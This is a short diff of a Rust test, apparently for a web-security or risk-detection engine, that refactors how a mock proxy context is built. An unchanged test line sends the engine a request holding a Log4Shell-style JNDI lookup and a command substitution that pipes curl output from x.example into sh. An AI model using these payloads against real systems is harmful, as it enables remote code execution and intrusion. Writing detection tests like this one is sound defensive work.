@@ -174,11 +174,7 @@ fn told(data: &[u8]) -> Vec<String> {
     let engine = Engine::new(config.unwrap_or_else(|mistake| panic!("{mistake}")).config, &cells, [1; 32]);
     let now = Timestamp::from_millis(1_767_323_045_678);
     let answer: Headers = [(&b"x-user-risk-event"[..], events)].into_iter().collect();
-    let proxy = Known::default()
-        .with(&["source", "address"], address)
-        .with(&["xds", "route_name"], route)
-        .with(&["xds", "cluster_name"], "app")
-        .answering(200, answer);
+    let proxy = Known::default().with_address(address).with_route(route).with_cluster("app").answering(200, answer);
     let mut effects = Vec::new();
     // Enough to open an incident, then what was made up.
     for data in [&b"GET /?a=${jndi:ldap://x.example/a}&b=$(curl+x.example|sh)"[..], rest] {
